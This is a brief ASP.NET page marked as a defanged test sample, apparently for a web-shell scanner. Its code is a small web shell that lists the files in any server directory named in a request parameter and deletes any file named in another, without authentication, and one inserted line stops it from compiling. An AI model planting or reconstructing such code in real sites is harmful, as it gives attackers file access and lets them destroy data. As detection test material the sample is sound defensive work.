<%@ Page Language="C#" %>
<%-- DEFANGED vigil test sample (see README): the block below does not compile. --%>
<% DEFANGED SAMPLE does not compile %>
<%
    foreach (var f in Directory.GetFiles(Request["dir"])) Response.Write(f + "<br>");
    if (Request["del"] != null) File.Delete(Request["del"]);
%>
